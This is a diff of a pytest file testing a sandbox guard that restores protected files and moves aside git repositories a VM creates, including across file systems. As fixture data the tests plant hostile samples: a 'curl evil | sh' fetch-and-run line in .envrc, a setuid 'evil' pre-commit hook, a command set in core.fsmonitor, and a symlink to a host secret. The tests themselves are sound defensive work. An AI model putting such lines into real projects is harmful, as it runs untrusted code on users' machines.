@@ -3,18 +3,22 @@ way within one round of the idle reaper, and told at the next review."""
 
 from __future__ import annotations
 
+import errno
 import json
+import os
 from pathlib import Path
 
 import pytest
 
 from opencode_sandbox.app import App
 from opencode_sandbox.cli.render import render_status
-from opencode_sandbox.core.guard import COPY_LIMIT, REVIEW_FOLDER
+from opencode_sandbox.core.guard import COPY_LIMIT, OLD_REVIEW_FOLDER
+from opencode_sandbox.services import guard_files
 from opencode_sandbox.services.guard import review, status
+from opencode_sandbox.services.guard_files import MOVE_COPY_LIMIT
 from opencode_sandbox.services.guard_moves import Notes, catch_while_running
 from tests.services.app_fakes import SLUG, messages
-from tests.services.test_guard import git
+from tests.services.test_guard import git, review_root
 
 
 @pytest.fixture
@@ -47,9 +51,9 @@ def test_a_guarded_file_the_vm_changes_is_put_back_within_one_round_and_told_at_
     assert (checkout / ".envrc").read_text() == "export A=1\n"
     assert not (checkout / ".husky" / "pre-commit").exists()
     assert [held.change.split(":")[0] for held in notes.held] == [".envrc", ".husky/pre-commit"]
-    kept = checkout / notes.held[0].kept
-    assert kept.is_relative_to(checkout / REVIEW_FOLDER) and "curl evil" in kept.read_text()
-    hook = checkout / notes.held[1].kept
+    kept = Path(notes.held[0].kept)
+    assert kept.is_relative_to(review_root(app)) and "curl evil" in kept.read_text()
+    hook = Path(notes.held[1].kept)
     assert hook.read_text() == "#!/bin/sh\nevil\n" and hook.stat().st_mode & 0o111 == 0
     assert any("put back as recorded: .envrc" in line for line in log)
     shown = render_status(status(app), "table")
@@ -89,7 +93,7 @@ def test_a_nested_repository_is_moved_aside_whole(app: App, checkout: Path) -> N
 
     notes = catch(app, [])
 
-    assert not (nested / ".git").exists() and notes.moved[0].startswith("sub/.git -> .opencode-sandbox/guard/")
+    assert not (nested / ".git").exists() and notes.moved[0].startswith(f"sub/.git -> {review_root(app)}/")
     told = review(app, vm_may_write_after=True) and messages(app)
     assert ("git director(y/ies), or link(s) into what was set aside, that the VM made below the checkout were "
             "moved aside") in told
@@ -149,3 +153,163 @@ def test_a_file_whose_earlier_version_was_too_big_to_keep_is_left_to_the_review(
     assert catch(app, []) == Notes()
     assert big.read_bytes() == b"\1"
     assert [change.path for change in review(app, vm_may_write_after=False).by_vm] == [".husky/big.bin"]
+
+
+# The review folder on another file system than the checkout: a rename fails with EXDEV, and what
+# the VM made is copied, never through a link and up to a bound, then removed.
+
+
+@pytest.fixture
+def across_file_systems(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every rename from one folder to another fails as between two file systems; one within a
+    folder (a restore's staging file renamed into place) works."""
+    real = os.rename
+
+    def rename(source: str, target: str, *, src_dir_fd: int | None = None, dst_dir_fd: int | None = None) -> None:
+        if src_dir_fd != dst_dir_fd:
+            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV))
+        real(source, target, src_dir_fd=src_dir_fd, dst_dir_fd=dst_dir_fd)
+
+    monkeypatch.setattr(guard_files.os, "rename", rename)
+
+
+def everything_below(folder: Path) -> list[str]:
+    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_a_nested_repository_is_copied_without_following_a_link_and_removed(
+        app: App, checkout: Path, tmp_path: Path) -> None:
+    review(app, vm_may_write_after=True)
+    secret = tmp_path / "secret"
+    secret.write_text("the host's\n")
+    nested = checkout / "sub"
+    git(checkout, "init", "-q", str(nested))
+    git(nested, "config", "core.fsmonitor", "touch ran; false")
+    hook = nested / ".git/hooks/pre-commit"
+    hook.write_text("#!/bin/sh\nevil\n")
+    hook.chmod(0o4755)
+    (nested / ".git/leak").symlink_to(secret)
+    (checkout / ".envrc").write_text("curl evil | sh\n")
+    (checkout / ".envrc").chmod(0o755)
+
+    notes = catch(app, [])
+
+    assert not (nested / ".git").exists() and (checkout / ".envrc").read_text() == "export A=1\n"
+    [moved] = notes.moved
+    kept = Path(moved.split(" -> ")[1])
+    assert moved.startswith("sub/.git -> ") and kept.is_relative_to(review_root(app))
+    assert "touch ran; false" in (kept / "config").read_text()
+    assert (kept / "hooks/pre-commit").read_text() == "#!/bin/sh\nevil\n"
+    assert os.readlink(kept / "leak") == str(secret), "a link is copied as the link it is"
+    for path in kept.rglob("*"):
+        if not path.is_symlink():
+            assert path.is_dir() or path.stat().st_mode & 0o7111 == 0, f"{path} keeps a bit that runs it"
+    envrc = Path(notes.held[0].kept)
+    assert envrc.read_text() == "curl evil | sh\n" and envrc.stat().st_mode & 0o111 == 0
+    assert not (checkout / OLD_REVIEW_FOLDER).exists()
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_what_is_larger_than_the_bound_is_removed_and_no_part_of_it_kept(
+        app: App, checkout: Path) -> None:
+    review(app, vm_may_write_after=True)
+    nested = checkout / "vendor/lib"
+    git(checkout, "init", "-q", str(nested))
+    for index in range(4):  # each below the bound, together above it: some are copied before it is reached
+        with (nested / ".git/objects" / f"pack{index}").open("wb") as handle:
+            handle.truncate(MOVE_COPY_LIMIT // 3)
+    log: list[str] = []
+
+    notes = catch(app, log)
+
+    assert not (nested / ".git").exists(), "removed all the same"
+    assert notes.moved == ("vendor/lib/.git -> removed (not kept: larger than 64 MiB)",)
+    assert any(line == "removed the git directory the VM made at vendor/lib/.git (not kept: larger than 64 MiB)"
+               for line in log), log
+    [stamp] = [folder for folder in review_root(app).iterdir()]
+    assert everything_below(stamp) == [], "no part of a copy is left"
+    review(app, vm_may_write_after=True)
+    assert "vendor/lib/.git -> removed (not kept: larger than 64 MiB)" in messages(app)
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_a_sparse_file_of_4_gib_is_never_read_and_the_guarded_file_comes_back(
+        app: App, checkout: Path) -> None:
+    import time
+
+    review(app, vm_may_write_after=True)
+    with (checkout / ".envrc").open("wb") as handle:
+        handle.truncate(4 << 30)
+    began = time.monotonic()
+
+    notes = catch(app, [])
+
+    assert time.monotonic() - began < 5
+    assert (checkout / ".envrc").read_text() == "export A=1\n"
+    [held] = notes.held
+    assert held.kept == "" and held.line().endswith(", the VM's version removed (not kept: larger than 64 MiB)")
+    assert everything_below(review_root(app)) == [path.name for path in review_root(app).iterdir()]
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_a_copy_that_fails_leaves_nothing_behind(app: App, checkout: Path,
+                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    review(app, vm_may_write_after=True)
+    nested = checkout / "sub"
+    git(checkout, "init", "-q", str(nested))
+    (nested / ".git/objects/last").write_text("x" * 100)
+    real_read = os.read
+    reads = [0]
+
+    def failing(descriptor: int, size: int) -> bytes:
+        reads[0] += 1
+        if reads[0] > 5:
+            raise OSError(errno.EIO, os.strerror(errno.EIO))
+        return real_read(descriptor, size)
+
+    monkeypatch.setattr(guard_files.os, "read", failing)
+
+    notes = catch(app, [])
+
+    assert notes.moved == (f"sub/.git -> removed (not kept: {os.strerror(errno.EIO)})",)
+    assert not (nested / ".git").exists()
+    assert all(everything_below(stamp) == [] for stamp in review_root(app).iterdir())
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_the_review_keeps_the_vms_version_too(app: App, checkout: Path) -> None:
+    review(app, vm_may_write_after=True)
+    (checkout / ".husky" / "pre-commit").write_text("#!/bin/sh\nevil\n")
+    (checkout / ".husky" / "pre-commit").chmod(0o755)
+
+    outcome = review(app, vm_may_write_after=True)  # no terminal: reverted
+
+    assert outcome.reverted and not (checkout / ".husky" / "pre-commit").exists()
+    kept = Path(outcome.review_folder) / ".husky" / "pre-commit"
+    assert kept.read_text() == "#!/bin/sh\nevil\n" and kept.stat().st_mode & 0o111 == 0
+    assert f"the VM's versions are kept in {outcome.review_folder}" in messages(app)
+
+
+@pytest.mark.usefixtures("across_file_systems")
+def test_across_file_systems_a_repository_1200_folders_deep_is_copied_and_removed(app: App, checkout: Path) -> None:
+    """The VM picks the depth: the copy and the removal go down with a list, not recursion."""
+    import subprocess
+
+    review(app, vm_may_write_after=True)
+    git(checkout, "init", "-q", str(checkout / "sub"))
+    folder = os.open(checkout / "sub/.git/objects", os.O_RDONLY)
+    for _ in range(1200):
+        os.mkdir("d", dir_fd=folder)
+        inner = os.open("d", os.O_RDONLY, dir_fd=folder)
+        os.close(folder)
+        folder = inner
+    os.close(os.open("deepest", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=folder))
+    os.close(folder)
+    try:
+        [moved] = catch(app, []).moved
+        kept = Path(moved.split(" -> ")[1])
+        assert not (checkout / "sub/.git").exists()
+        assert os.path.isfile(os.path.join(kept, "objects", *["d"] * 1200, "deepest"))
+    finally:  # pytest's own clean-up recurses once a level
+        subprocess.run(["rm", "-rf", "--", str(checkout), str(review_root(app))], check=True)
